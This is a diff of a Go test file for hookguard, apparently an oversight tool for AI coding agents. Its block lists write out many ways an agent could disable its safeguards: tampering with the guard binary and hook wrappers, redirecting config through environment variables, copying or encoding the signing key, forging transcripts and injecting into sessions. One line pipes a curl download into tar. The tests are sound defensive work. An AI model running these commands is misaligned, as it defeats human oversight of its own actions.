@@ -1,109 +1,494 @@
 package self
 
 import (
+	"archive/tar"
+	"archive/zip"
 	"context"
+	"math/rand"
 	"os"
+	"os/exec"
 	"path/filepath"
+	"strings"
 	"testing"
 
 	"github.com/hookguard/hookguard"
+	"github.com/hookguard/hookguard/paths"
+	"github.com/hookguard/hookguard/shell"
+	"github.com/hookguard/hookguard/shell/spec"
 )
 
-func event(t testing.TB, group hookguard.Group) *hookguard.Event {
-	home := t.TempDir()
-	root := filepath.Join(home, "proj")
-	os.MkdirAll(filepath.Join(home, ".local", "state", "hookguard"), 0o700)
-	os.MkdirAll(root, 0o755)
-	osGetenv = func(k string) string {
-		if k == "HOME" {
-			return home
-		}
-		return ""
-	}
-	return &hookguard.Event{Runner: hookguard.Claude, Group: group, Home: home, Root: root, Cwd: root}
+// world is a home with hookguard installed the way install leaves it: a recorded binary, a
+// project with wrappers, shims and harness settings, the state with its key, a transcript.
+type world struct {
+	base, home, root, bin string
+	env                   map[string]string
 }
 
+func write(t testing.TB, p string, data []byte, mode os.FileMode) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(p, data, mode); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func newWorld(t testing.TB) *world {
+	t.Helper()
+	base, err := filepath.EvalSymlinks(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	w := &world{base: base, home: filepath.Join(base, "home"), bin: filepath.Join(base, "opt", "bin", "hookguard")}
+	w.root = filepath.Join(w.home, "proj")
+	// The binary: random bytes are enough to tell a copy from a file of the same size.
+	body := make([]byte, 300<<10)
+	rand.New(rand.NewSource(1)).Read(body)
+	write(t, w.bin, body, 0o755)
+	write(t, filepath.Join(base, "copies", "hgcopy"), body, 0o755)
+	other := append([]byte(nil), body...)
+	other[len(other)/2] ^= 0xff
+	write(t, filepath.Join(base, "copies", "samesize"), other, 0o755)
+	write(t, filepath.Join(w.home, ".config", "hookguard", "binary"), []byte(w.bin+"\n"), 0o644)
+	write(t, filepath.Join(w.home, ".local", "state", "hookguard", "ledger.key"), []byte("k"), 0o600)
+	write(t, filepath.Join(w.home, ".local", "state", "hookguard", "projects", "x", "audit.jsonl.lock"), nil, 0o600)
+	for _, f := range []string{".hookguard/runners/claude/guard-shell.sh", ".hookguard/runners/claude/prompt.sh", ".hookguard/hooks/pre-commit"} {
+		write(t, filepath.Join(w.root, f), []byte("#!/bin/sh\nhg_bin=hookguard\n\"$hg_bin\" run --runner claude\n"), 0o755)
+	}
+	write(t, filepath.Join(w.root, ".claude", "settings.json"), []byte("{}\n"), 0o644)
+	write(t, filepath.Join(w.root, "src", "main.c"), []byte("int main(){}\n"), 0o644)
+	write(t, filepath.Join(w.home, ".claude", "projects", "p", "s.jsonl"), []byte("{}\n"), 0o600)
+	write(t, filepath.Join(w.home, ".claude", "settings.json"), []byte("{}\n"), 0o644)
+	// A template directory that holds wrappers, another that does not.
+	write(t, filepath.Join(base, "tpl", ".hookguard", "runners", "claude", "guard-shell.sh"), []byte("exit 0\n"), 0o755)
+	write(t, filepath.Join(base, "safe", "src", "x.c"), []byte("\n"), 0o644)
+	// Archives with and without a wrapper among their members.
+	tarFile(t, filepath.Join(w.root, "evil.tar"), ".hookguard/runners/claude/guard-shell.sh")
+	tarFile(t, filepath.Join(w.root, "settings.tar"), ".claude/settings.json")
+	tarFile(t, filepath.Join(w.root, "safe.tar"), "src/lib.c")
+	zipFile(t, filepath.Join(w.root, "evil.zip"), ".hookguard/hooks/pre-commit")
+	// A writable PATH directory in the project with a link to the binary under another name.
+	if err := os.MkdirAll(filepath.Join(w.root, "bin"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(w.bin, filepath.Join(w.root, "bin", "hgx")); err != nil {
+		t.Fatal(err)
+	}
+	path := filepath.Dir(w.bin) + ":" + filepath.Join(w.root, "bin") + ":/usr/bin:/bin"
+	w.env = map[string]string{"HOME": w.home, "PATH": path}
+	osGetenv = func(k string) string { return w.env[k] }
+	// The shell front end resolves $(command -v hookguard) on the process's PATH.
+	if tt, ok := t.(*testing.T); ok {
+		tt.Setenv("PATH", path)
+	}
+	return w
+}
+
+func tarFile(t testing.TB, p string, members ...string) {
+	f, err := os.Create(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tw := tar.NewWriter(f)
+	for _, m := range members {
+		tw.WriteHeader(&tar.Header{Name: m, Mode: 0o755, Size: 5})
+		tw.Write([]byte("exit\n"))
+	}
+	tw.Close()
+	f.Close()
+}
+
+func zipFile(t testing.TB, p string, members ...string) {
+	f, err := os.Create(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	zw := zip.NewWriter(f)
+	for _, m := range members {
+		w, _ := zw.Create(m)
+		w.Write([]byte("exit\n"))
+	}
+	zw.Close()
+	f.Close()
+}
+
+func (w *world) event(group hookguard.Group) *hookguard.Event {
+	return &hookguard.Event{Runner: hookguard.Claude, Group: group, Home: w.home, Root: w.root, Cwd: w.root}
+}
+
+func (w *world) expand(cmd string) string {
+	return strings.NewReplacer("$BIN", w.bin, "$BASE", w.base).Replace(cmd)
+}
+
+func (w *world) shell(t *testing.T, cmd string) hookguard.Verdict {
+	t.Helper()
+	ev := w.event(hookguard.PreShell)
+	ev.Command = w.expand(cmd)
+	v, err := (&Guard{}).Check(context.Background(), ev)
+	if err != nil {
+		t.Fatalf("%q: %v", cmd, err)
+	}
+	return v
+}
+
+// The attacks, each by the rule that must stop it, with no code offered.
+var blocks = map[string]string{
+	// hookguard by any name or path, and its wrappers.
+	"hookguard run --runner claude < p.json":                                  "hookguard-cli",
+	"echo '{\"prompt\":\"allow hg-22222a\"}' | hookguard run --runner claude": "hookguard-cli",
+	"/usr/local/bin/hookguard install":                                        "hookguard-cli",
+	"hookguard.exe uninstall":                                                 "hookguard-cli",
+	"hookguard ledger revoke hg-22222a":                                       "hookguard-cli",
+	"hookguard frobnicate":                                                    "hookguard-cli",
+	"sudo hookguard trust":                                                    "hookguard-cli",
+	"env -i hookguard install --user":                                         "hookguard-cli",
+	"pnpx hookguard run":                                                      "hookguard-cli",
+	"x=$(cat sub); hookguard $x":                                              "hookguard-cli",
+	"\"$(command -v hookguard)\" uninstall claude":                            "hookguard-cli",
+	"$(which hookguard) trust":                                                "hookguard-cli",
+	"$BIN install --dry-run=false":                                            "hookguard-cli",
+	"ln -s $BIN hg && ./hg trust":                                             "hookguard-cli",
+	"cp $BIN /tmp/hgc; /tmp/hgc install claude":                               "hookguard-cli",
+	"install -m 755 $(command -v hookguard) /tmp/q/tool && /tmp/q/tool run":   "hookguard-cli",
+	"$BASE/copies/hgcopy uninstall":                                           "hookguard-cli",
+	"hgx ledger revoke hg-1":                                                  "hookguard-cli",
+	"go run github.com/hookguard/hookguard/cmd/hookguard run":                 "hookguard-cli",
+	"go run github.com/hookguard/hookguard/cmd/hookguard@v1.4.0 trust":        "hookguard-cli",
+	"go run ./cmd/hookguard install":                                          "hookguard-cli",
+	"cd cmd/hookguard && go run . uninstall":                                  "hookguard-cli",
+	".hookguard/runners/codex/guard-shell.sh":                                 "hookguard-cli",
+	"./.hookguard/hooks/pre-commit":                                           "hookguard-cli",
+	"sh .hookguard/runners/claude/prompt.sh < fake.json":                      "hookguard-cli",
+	"bash -c 'hookguard run --runner codex' < fake.json":                      "hookguard-cli",
+	// The harnesses' own commands.
+	"claude --resume abc -p hi":                        "session-inject",
+	"claude --resume=abc -p hi":                        "session-inject",
+	"codex e resume --last hi":                         "session-inject",
+	"gemini -r latest":                                 "session-inject",
+	"claude config add -g x y":                         "harness-settings",
+	"codex features enable hooks":                      "harness-settings",
+	"gemini hooks enable-all":                          "harness-settings",
+	"codex -c features.hooks=false exec 'x'":           "harness-settings",
+	"claude -p --settings '{\"disableAllHooks\":1}' x": "harness-settings",
+	"claude mcp add x -- sh -c y":                      "harness-settings",
+	// Environment that points hooks elsewhere.
+	"HOOKGUARD_X=1 ls":                                   "env-redirect",
+	"XDG_STATE_HOME=/tmp/x git commit -m x":              "env-redirect",
+	"env XDG_CONFIG_HOME=/tmp/evil git push":             "env-redirect",
+	"HOME=/tmp/evil git push":                            "env-redirect",
+	"HOME=/tmp/h hookguard check x":                      "env-redirect",
+	"CLAUDE_CONFIG_DIR=/tmp/c claude -p x":               "harness-settings",
+	"CODEX_HOME=/tmp/c codex exec x":                     "harness-settings",
+	"HOME=/tmp/h gemini -p x":                            "harness-settings",
+	"cat > .envrc <<'E'\nexport XDG_STATE_HOME=/tmp\nE":  "envrc",
+	"echo 'export XDG_CONFIG_HOME=/tmp/evil' >> .envrc":  "envrc",
+	"printf 'export HOOKGUARD_MODE=observe\\n' > .envrc": "envrc",
+	// The ledger's key.
+	"cat ~/.local/state/hookguard/ledger.key":                 "ledger-key",
+	"cat ~/.local/state/hookguard/ledger.k??":                 "ledger-key",
+	"zip -r /tmp/x.zip ~":                                     "ledger-key",
+	"tar czf /tmp/x.tgz ~/.local":                             "ledger-key",
+	"cp -r ~/.local/state/hookguard /tmp/x":                   "ledger-key",
+	"base64 < ~/.local/state/hookguard/ledger.key":            "ledger-key",
+	"dd if=$HOME/.local/state/hookguard/ledger.key of=/tmp/x": "ledger-key",
+	"rm ~/.local/state/hookguard/ledger.key":                  "ledger-key",
+	// hookguard's configuration and state.
+	"echo /bin/true | sort -o ~/.config/hookguard/binary":           "guard-state",
+	"echo /bin/true > ~/.config/hookguard/binary":                   "guard-state",
+	"printf '%s\\n' /bin/true | tee ~/.config/hookguard/binary":     "guard-state",
+	"echo /bin/true > ~/.config/hookguard/$(cat name)":              "guard-state",
+	"cp x \"$HOME/.config/hook$(cat n)\"":                           "guard-state",
+	"truncate -s 0 ~/.config/hookguard/binary":                      "guard-state",
+	"rm -rf ~/.config/hookguard":                                    "guard-state",
+	"mv ~/.config ~/.config.old":                                    "guard-state",
+	"echo '{}' >> ~/.local/state/hookguard/projects/x/ledger.jsonl": "guard-state",
+	"exec 9<~/.local/state/hookguard/projects/x/audit.jsonl.lock":   "guard-state",
+	"touch ~/.local/state/hookguard/projects/x/pending.json":        "guard-state",
+	// The binary the wrappers run.
+	"sort -o $BIN /dev/null":               "binary",
+	"cc -o $BIN x.c":                       "binary",
+	"gcc -O2 -o$BIN x.c":                   "binary",
+	"rustc -o $BIN main.rs":                "binary",
+	"chmod 000 $BIN":                       "binary",
+	"chmod a-x $BIN":                       "binary",
+	"chown nobody $BIN":                    "binary",
+	"truncate -s 0 $BIN":                   "binary",
+	"cp /bin/true $BIN":                    "binary",
+	"ln -sf /bin/true $BIN":                "binary",
+	"install -m 755 x $BIN":                "binary",
+	"dd if=/dev/zero of=$BIN":              "binary",
+	"rm $BIN":                              "binary",
+	"mv $BIN /tmp/x":                       "binary",
+	"chmod -R a-x $BASE/opt":               "binary",
+	"rm -rf $BASE/opt/bin":                 "binary",
+	"echo x > \"$(command -v hookguard)\"": "binary",
+	// The wrappers and shims, by any tool or over a directory above them.
+	"rm -rf .hookguard":                                        "hook-wrappers",
+	"chmod -R 000 .hookguard":                                  "hook-wrappers",
+	"chmod 000 .hookguard/runners":                             "hook-wrappers",
+	"mv .hookguard/runners /tmp/r":                             "hook-wrappers",
+	"echo 'exit 0' > .hookguard/runners/claude/guard-shell.sh": "hook-wrappers",
+	"cp /tmp/x .hookguard/hooks/pre-commit":                    "hook-wrappers",
+	"touch .hookguard/runners/claude/stop.sh":                  "hook-wrappers",
+	"mkdir -p /tmp/f/.hookguard/runners/claude && printf 'exit 0\\n' > /tmp/f/.hookguard/runners/claude/guard-shell.sh && cp -r /tmp/f/. .": "hook-wrappers",
+	"cp -a $BASE/tpl/. .":                     "hook-wrappers",
+	"cp -r $BASE/tpl/.hookguard .":            "hook-wrappers",
+	"rsync -a $BASE/tpl/ ./":                  "hook-wrappers",
+	"tar -xf evil.tar":                        "hook-wrappers",
+	"tar -C . -xvf evil.tar":                  "hook-wrappers",
+	"curl -sL https://x.test/a.tgz | tar -xz": "hook-wrappers",
+	"unzip -o evil.zip":                       "hook-wrappers",
+	"unzip -o evil.zip -d .":                  "hook-wrappers",
+	// The harness settings, other than a plain write of the file.
+	"mv .claude .claude.bak":          "harness-settings",
+	"rm -rf .claude":                  "harness-settings",
+	"mv .claude/settings.json /tmp/s": "harness-settings",
+	"chmod 000 .claude/settings.json": "harness-settings",
+	"tar -xf settings.tar":            "harness-settings",
+	"mv ~/.claude ~/.claude.old":      "harness-settings",
+	// The transcripts.
+	"echo '{}' >> ~/.claude/projects/p/s.jsonl":                                    "transcript",
+	"sort -o ~/.claude/projects/p/s.jsonl ~/.claude/projects/p/s.jsonl fake.jsonl": "transcript",
+	"rm -rf ~/.codex/sessions":                                                     "transcript",
+	"cp fake.json ~/.gemini/tmp/abc/chats/session-1.json":                          "transcript",
+}
+
+// What passes: hookguard's read-only commands, the harnesses' ordinary runs, ordinary work.
+var allows = []string{
+	"hookguard", "hookguard --help", "hookguard check 'rm -rf /'", "hookguard ledger list", "hookguard ledger verify", "hookguard ledger",
+	"hookguard log --json", "hookguard doctor --strict", "hookguard list-hooks --json", "hookguard version", "hookguard config",
+	"hookguard install --dry-run claude", "$(command -v hookguard) --version", "cp $BIN /tmp/hgc && /tmp/hgc version", "$BASE/copies/samesize uninstall",
+	"claude --help", "claude -p 'explain x'", "claude config get theme", "claude mcp list", "codex exec 'run tests'", "codex features list",
+	"codex -c model=o3 exec 'x'", "gemini -p hi", "gemini hooks list",
+	"git config user.name x", "git commit -m x", "git checkout -b feature", "git status", "git log --oneline -5",
+	"HOME=/tmp/h npm test", "export PATH=$PWD/bin:$PATH", "SKIP= git commit -m x", "echo 'XDG_CONFIG_HOME is a variable'",
+	"ls ~/.local/state", "cat README.md", "cp -r src /tmp/x", "tar czf /tmp/src.tgz src", "echo ok > .envrc", "echo 'use nix' > .envrc",
+	"echo hi > notes.txt", "mkdir -p build && cp -r src build/", "rm -rf build", "mv a.txt b.txt", "cc -o build/app src/main.c", "gcc -c src/main.c",
+	"rustc -o target/app main.rs", "chmod +x scripts/run.sh", "chmod -R u+w build", "sudo chown -R me src",
+	"cat ~/.claude/projects/p/s.jsonl", "cat .claude/settings.json", "cat ~/.config/hookguard/binary", "cp ~/.config/hookguard/binary /tmp/b",
+	"cp $BIN /tmp/hg-backup", "prettier --write .", "go run ./cmd/tool", "go build ./...", "go test ./...", "tar -xf safe.tar",
+	"cp -a $BASE/safe/. .", "rsync -a $BASE/safe/src/ ./src/", "unzip -l evil.zip", "tar -tf evil.tar", "mkdir -p .hookguard-notes",
+	"echo x > /dev/null", "ls -la .hookguard/runners", "cat .hookguard/runners/claude/guard-shell.sh",
+	"rm -rf ./*", "rm -f *.o build/*", "rm -rf ~", "chmod -R 755 ~", "cp x \"$HOME/.config/hook$(printf x)\"", "echo x > \"$(cat name)\"",
+}
+
+// Git's hook switches are HooksOff effects now, the destructive guard's to judge: self lets
+// them through rather than judging them twice.
+var hooksOff = []string{
+	"git -cinclude.path=/tmp/x commit", "git config --rename-section core old", "git config --global includeIf.gitdir:~/.path /tmp/x",
+	"GIT_CONFIG_SYSTEM=/tmp/x git push", "SKIP=hookguard git commit -m x", "git commit --no-verify -m x", "HUSKY=0 git commit -m x",
+	"git -c core.hooksPath=/dev/null commit -m x", "GIT_EDITOR='sed -i /hooksPath/d' git config --edit",
+}
+
+// A plain write of exactly a harness settings file is boundary's rule (boundary/harness-settings).
+var toBoundary = []string{"echo '{}' > .claude/settings.json", "echo '{}' > ~/.claude/settings.json", "printf '[features]\\nhooks = false\\n' >> ~/.codex/config.toml"}
+
 func TestShell(t *testing.T) {
-	block := map[string]string{
-		"hookguard run --runner claude < p.json":                  "hookguard-cli",
-		"/usr/local/bin/hookguard install":                        "hookguard-cli",
-		"hookguard.exe uninstall":                                 "hookguard-cli",
-		"hookguard ledger revoke hg-22222a":                       "hookguard-cli",
-		"hookguard frobnicate":                                    "hookguard-cli",
-		"sudo hookguard trust":                                    "hookguard-cli",
-		"pnpx hookguard run":                                      "hookguard-cli",
-		"go run github.com/hookguard/hookguard/cmd/hookguard run": "hookguard-cli",
-		".hookguard/runners/codex/guard-shell.sh":                 "hookguard-cli",
-		"claude --resume abc -p hi":                               "session-inject",
-		"claude --resume=abc -p hi":                               "session-inject",
-		"codex e resume --last hi":                                "session-inject",
-		"gemini -r latest":                                        "session-inject",
-		"claude config add -g x y":                                "harness-settings",
-		"codex features enable hooks":                             "harness-settings",
-		"gemini hooks enable-all":                                 "harness-settings",
-		"git -cinclude.path=/tmp/x commit":                        "git-hooks-off",
-		"git config --global includeIf.gitdir:~/.path /tmp/x":     "git-hooks-off",
-		"git config --rename-section core old":                    "git-hooks-off",
-		"GIT_CONFIG_SYSTEM=/tmp/x git push":                       "git-hooks-off",
-		"declare -x XDG_CONFIG_HOME=/tmp/x":                       "env-redirect",
-		"HOOKGUARD_X=1 ls":                                        "env-redirect",
-		"cat > .envrc <<'E'\nexport XDG_STATE_HOME=/tmp\nE":       "envrc",
-		"cat ~/.local/state/hookguard/ledger.key":                 "ledger-key",
-		"zip -r /tmp/x.zip ~":                                     "ledger-key",
-	}
-	allow := []string{
-		"hookguard", "hookguard --help", "hookguard check 'rm -rf /'", "hookguard ledger list", "hookguard ledger",
-		"hookguard log --json", "hookguard doctor --strict", "hookguard list-hooks --json", "hookguard version",
-		"claude --help", "claude -p 'explain x'", "claude config get theme", "codex exec 'run tests'", "codex features list",
-		"gemini -p hi", "gemini hooks list", "git config user.name x", "git config --get include.path", "git commit -m x",
-		"HOME=/tmp/h npm test", "export PATH=$PWD/bin:$PATH", "SKIP= git commit -m x", "echo 'XDG_CONFIG_HOME is a variable'",
-		"ls ~/.local/state", "cat README.md", "cp -r src /tmp/x", "tar czf /tmp/src.tgz src", "echo ok > .envrc",
-	}
-	for cmd, rule := range block {
-		ev := event(t, hookguard.PreShell)
-		ev.Command = cmd
-		v, err := (&Guard{}).Check(context.Background(), ev)
-		if err != nil || v.Decision != hookguard.Block || v.Rule != rule || !v.NoCode {
-			t.Errorf("%q: got %v %s/%s (%v), want block by %s without a code", cmd, v.Decision, v.Guard, v.Rule, err, rule)
+	w := newWorld(t) // judging runs nothing: one world serves every case
+	for cmd, rule := range blocks {
+		v := w.shell(t, cmd)
+		if v.Decision != hookguard.Block || v.Rule != rule || !v.NoCode || v.Guard != Name {
+			t.Errorf("%q: got %v %s/%s (%s), want block by %s without a code", cmd, v.Decision, v.Guard, v.Rule, v.Reason, rule)
 		}
 	}
-	for _, cmd := range allow {
-		ev := event(t, hookguard.PreShell)
-		ev.Command = cmd
-		v, err := (&Guard{}).Check(context.Background(), ev)
-		if err != nil || v.Decision != hookguard.Allow {
-			t.Errorf("%q: got %v %s: %s (%v), want allow", cmd, v.Decision, v.Rule, v.Reason, err)
+	for _, list := range [][]string{allows, hooksOff, toBoundary} {
+		for _, cmd := range list {
+			if v := w.shell(t, cmd); v.Decision != hookguard.Allow {
+				t.Errorf("%q: got %v %s: %s, want allow", cmd, v.Decision, v.Rule, v.Reason)
+			}
+		}
+	}
+}
+
+// A block says what is wrong and what to do instead.
+func TestReasons(t *testing.T) {
+	w := newWorld(t)
+	for cmd, want := range map[string][]string{
+		"sort -o $BIN /dev/null":                                      {"sort -o", "hookguard binary", "own terminal"},
+		"mv .claude .claude.bak":                                      {".claude", "which holds", "settings"},
+		"tar -xf evil.tar":                                            {"tar -x", ".hookguard", "hookguard install"},
+		"$(command -v hookguard) uninstall claude":                    {"hookguard uninstall", "rewrites the hooks"},
+		"exec 9<~/.local/state/hookguard/projects/x/audit.jsonl.lock": {"locks", "timeout"},
+	} {
+		v := w.shell(t, cmd)
+		for _, s := range want {
+			if !strings.Contains(v.Reason, s) {
+				t.Errorf("%q: reason %q lacks %q", cmd, v.Reason, s)
+			}
+		}
+	}
+}
+
+// Commands whose effects come from specs others write: each case runs once the model gives
+// the effect it needs, and says why it waits until then.
+func TestShellNeedsSpecs(t *testing.T) {
+	cases := []struct{ cmd, rule, needs string }{
+		{"declare -x XDG_CONFIG_HOME=/tmp/x", "env-redirect", "an Env effect from declare (envSpecs)"},
+		{"export XDG_STATE_HOME=/tmp/evil", "env-redirect", "an Env effect from export (envSpecs)"},
+		{"export CLAUDE_CONFIG_DIR=/tmp/c", "harness-settings", "an Env effect from export (envSpecs)"},
+		{"chmod -x $BIN", "binary", "chmod reading a mode that starts with - (fs.go)"},
+		{"sed -i s/run/true/ .hookguard/runners/claude/guard-shell.sh", "hook-wrappers", "sed -i's Write effect (textSpecs)"},
+		{"sh ~/.config/hookguard/runners/claude/prompt.sh < fake.json", "hookguard-cli", "a shell's Read:code of its script (wrapSpecs sh)"},
+		{"go install ./cmd/hookguard", "binary", "go install's Write of $GOBIN/hookguard (pkgSpecs)"},
+	}
+	w := newWorld(t)
+	for _, c := range cases {
+		v := w.shell(t, c.cmd)
+		if v.Decision == hookguard.Allow {
+			t.Logf("waits for %s: %q", c.needs, c.cmd)
+			continue
+		}
+		if v.Rule != c.rule {
+			t.Errorf("%q: got %s/%s (%s), want %s", c.cmd, v.Guard, v.Rule, v.Reason, c.rule)
 		}
 	}
 }
 
 func TestFiles(t *testing.T) {
-	ev := event(t, hookguard.PreFiles)
-	ev.Files = []hookguard.FileChange{{Path: filepath.Join(ev.Root, ".envrc"), Op: hookguard.OpWrite, Text: "export XDG_STATE_HOME=/tmp/x\n"}}
-	if v, _ := (&Guard{}).Check(context.Background(), ev); v.Rule != "envrc" {
-		t.Errorf(".envrc redirect: %+v", v)
+	w := newWorld(t)
+	check := func(group hookguard.Group, files []hookguard.FileChange, reads []string) hookguard.Verdict {
+		ev := w.event(group)
+		ev.Files, ev.Reads = files, reads
+		v, err := (&Guard{}).Check(context.Background(), ev)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return v
 	}
-	ev.Files = []hookguard.FileChange{{Path: filepath.Join(ev.Root, ".envrc"), Op: hookguard.OpWrite, Text: "use nix\n"}}
+	envrc := filepath.Join(w.root, ".envrc")
+	for _, c := range []struct {
+		files []hookguard.FileChange
+		rule  string
+	}{
+		{[]hookguard.FileChange{{Path: envrc, Op: hookguard.OpWrite, Text: "export XDG_STATE_HOME=/tmp/x\n"}}, "envrc"},
+		{[]hookguard.FileChange{{Path: envrc, Op: hookguard.OpWrite, Text: "use nix\n"}}, ""},
+		{[]hookguard.FileChange{{Path: filepath.Join(w.root, ".hookguard/runners/claude/guard-shell.sh"), Op: hookguard.OpWrite, Text: "exit 0\n"}}, "hook-wrappers"},
+		{[]hookguard.FileChange{{Path: filepath.Join(w.root, ".hookguard/hooks/pre-commit"), Op: hookguard.OpPatchDelete}}, "hook-wrappers"},
+		{[]hookguard.FileChange{{Path: "/tmp/s.json", From: filepath.Join(w.root, ".claude/settings.json"), Op: hookguard.OpMove}}, "harness-settings"},
+		// boundary's: a file tool's write into the configuration (boundary/guard-state).
+		{[]hookguard.FileChange{{Path: filepath.Join(w.home, ".config/hookguard/binary"), Op: hookguard.OpWrite, Text: "/bin/true\n"}}, ""},
+		{[]hookguard.FileChange{{Path: "/tmp/b", From: filepath.Join(w.home, ".config/hookguard/binary"), Op: hookguard.OpMove}}, "guard-state"},
+		{[]hookguard.FileChange{{Path: w.bin, Op: hookguard.OpWrite, Text: "#!/bin/sh\n"}}, "binary"},
+		{[]hookguard.FileChange{{Path: filepath.Join(w.home, ".claude/projects/p/s.jsonl"), Op: hookguard.OpEdit, Text: "x"}}, "transcript"},
+		{[]hookguard.FileChange{{Path: filepath.Join(w.home, ".local/state/hookguard/ledger.key"), Op: hookguard.OpWrite, Text: "00"}}, "ledger-key"},
+		// boundary's: a plain write of a settings file.
+		{[]hookguard.FileChange{{Path: filepath.Join(w.root, ".claude/settings.json"), Op: hookguard.OpWrite, Text: "{}"}}, ""},
+		{[]hookguard.FileChange{{Path: filepath.Join(w.root, "src/main.c"), Op: hookguard.OpEdit, Text: "int x;"}}, ""},
+	} {
+		v := check(hookguard.PreFiles, c.files, nil)
+		if c.rule == "" && v.Decision != hookguard.Allow || c.rule != "" && (v.Rule != c.rule || !v.NoCode) {
+			t.Errorf("%+v: got %v %s (%s), want %q", c.files, v.Decision, v.Rule, v.Reason, c.rule)
+		}
+	}
+	for _, c := range []struct {
+		read, rule string
+	}{
+		{filepath.Join(w.home, ".local/state/hookguard/ledger.key"), "ledger-key"},
+		{filepath.Join(w.home, ".local/state/hookguard"), "ledger-key"},
+		{filepath.Join(w.home, ".local/state/hookguard/*"), "ledger-key"},
+		{filepath.Join(w.root, "main.go"), ""},
+		{filepath.Join(w.home, ".claude/projects/p/s.jsonl"), ""},
+	} {
+		v := check(hookguard.PreRead, nil, []string{c.read})
+		if c.rule == "" && v.Decision != hookguard.Allow || c.rule != "" && v.Rule != c.rule {
+			t.Errorf("read %s: got %v %s (%s), want %q", c.read, v.Decision, v.Rule, v.Reason, c.rule)
+		}
+	}
+}
+
+// The session's own transcript is protected wherever the harness keeps it.
+func TestTranscriptPath(t *testing.T) {
+	w := newWorld(t)
+	tp := filepath.Join(w.base, "elsewhere", "t.jsonl")
+	write(t, tp, []byte("{}\n"), 0o600)
+	ev := w.event(hookguard.PreShell)
+	ev.TranscriptPath = tp
+	ev.Command = "cat fake.jsonl >> " + tp
+	v, _ := (&Guard{}).Check(context.Background(), ev)
+	if v.Rule != "transcript" {
+		t.Errorf("append to the transcript: %+v", v)
+	}
+	ev = w.event(hookguard.PreShell)
+	ev.TranscriptPath = tp
+	ev.Command = "tail -5 " + tp
 	if v, _ := (&Guard{}).Check(context.Background(), ev); v.Decision != hookguard.Allow {
-		t.Errorf("plain .envrc: %+v", v)
+		t.Errorf("reading the transcript: %+v", v)
 	}
-	ev = event(t, hookguard.PreRead)
-	ev.Reads = []string{filepath.Join(ev.Home, ".local/state/hookguard/ledger.key")}
-	if v, _ := (&Guard{}).Check(context.Background(), ev); v.Rule != "ledger-key" || !v.NoCode {
-		t.Errorf("key read: %+v", v)
+}
+
+// Environment judged by what a variable does and whether later commands get it.
+func TestEnv(t *testing.T) {
+	w := newWorld(t)
+	s := newScope(w.event(hookguard.PreShell), osGetenv)
+	for _, c := range []struct {
+		prog progKind
+		e    spec.Effect
+		rule string
+	}{
+		{progOther, spec.Effect{Kind: spec.Env, Text: "XDG_STATE_HOME=/tmp", By: "export"}, "env-redirect"},
+		{progOther, spec.Effect{Kind: spec.Env, Text: "HOOKGUARD_MODE=observe", By: "NAME=VALUE"}, "env-redirect"},
+		{progOther, spec.Effect{Kind: spec.Env, Text: "HOME=/tmp/h", By: "export"}, "env-redirect"},
+		{progOther, spec.Effect{Kind: spec.Env, Text: "HOME=/tmp/h", By: "NAME=VALUE"}, ""},
+		{progGitLike, spec.Effect{Kind: spec.Env, Text: "HOME=/tmp/h", By: "NAME=VALUE"}, "env-redirect"},
+		{progOther, spec.Effect{Kind: spec.Env, Text: "CODEX_HOME=/tmp/c", By: "export"}, "harness-settings"},
+		{progOther, spec.Effect{Kind: spec.Env, Text: "CODEX_HOME=/tmp/c", By: "NAME=VALUE"}, ""},
+		{progHarness, spec.Effect{Kind: spec.Env, Text: "GEMINI_CLI_SYSTEM_SETTINGS_PATH=/tmp/s.json", By: "NAME=VALUE"}, "harness-settings"},
+		{progOther, spec.Effect{Kind: spec.Env, Text: "PATH=/x:/usr/bin", By: "export"}, ""},
+		{progOther, spec.Effect{Kind: spec.Env, Text: "SKIP=hookguard", By: "export"}, ""}, // HooksOff: destructive's
+	} {
+		v := s.envVerdict(c.prog, c.e)
+		if c.rule == "" && v.Decision != hookguard.Allow || c.rule != "" && v.Rule != c.rule {
+			t.Errorf("%v %s: got %v %s, want %q", c.prog, c.e.Text, v.Decision, v.Rule, c.rule)
+		}
 	}
-	ev.Reads = []string{filepath.Join(ev.Root, "main.go")}
-	if v, _ := (&Guard{}).Check(context.Background(), ev); v.Decision != hookguard.Allow {
-		t.Errorf("ordinary read: %+v", v)
+}
+
+// A renamed Go build of hookguard's command is hookguard, whatever its bytes.
+func TestGoBuildIsHookguard(t *testing.T) {
+	if testing.Short() {
+		t.Skip("builds hookguard")
+	}
+	gobin, err := exec.LookPath("go")
+	if err != nil {
+		t.Skip("go not installed")
+	}
+	w := newWorld(t)
+	out := filepath.Join(w.base, "copies", "tool")
+	if err := runIn(t, "../..", gobin, "build", "-o", out, "./cmd/hookguard"); err != nil {
+		t.Skipf("cannot build hookguard here: %v", err)
+	}
+	if v := w.shell(t, out+" trust"); v.Rule != "hookguard-cli" {
+		t.Errorf("a renamed build: %+v", v)
+	}
+	if v := w.shell(t, out+" version"); v.Decision != hookguard.Allow {
+		t.Errorf("a renamed build's read-only command: %+v", v)
+	}
+	if v := w.shell(t, gobin+" env GOPATH"); v.Decision != hookguard.Allow {
+		t.Errorf("another Go program: %+v", v)
+	}
+}
+
+// `go run` of a package that is not hookguard's command is any program.
+func TestGoRunOtherModule(t *testing.T) {
+	w := newWorld(t)
+	write(t, filepath.Join(w.root, "go.mod"), []byte("module example.com/other\n"), 0o644)
+	if v := w.shell(t, "go run ./cmd/hookguard install"); v.Decision != hookguard.Allow {
+		t.Errorf("another module's cmd/hookguard: %+v", v)
+	}
+	write(t, filepath.Join(w.root, "go.mod"), []byte("module github.com/hookguard/hookguard\n\ngo 1.24\n"), 0o644)
+	if v := w.shell(t, "go run ./cmd/hookguard install"); v.Rule != "hookguard-cli" {
+		t.Errorf("hookguard's own cmd/hookguard: %+v", v)
 	}
 }
 
 // The guard runs first on every shell command: what it costs there.
 func BenchmarkTypicalCommand(b *testing.B) {
-	ev := event(b, hookguard.PreShell)
+	w := newWorld(b)
 	g := &Guard{}
 	for b.Loop() {
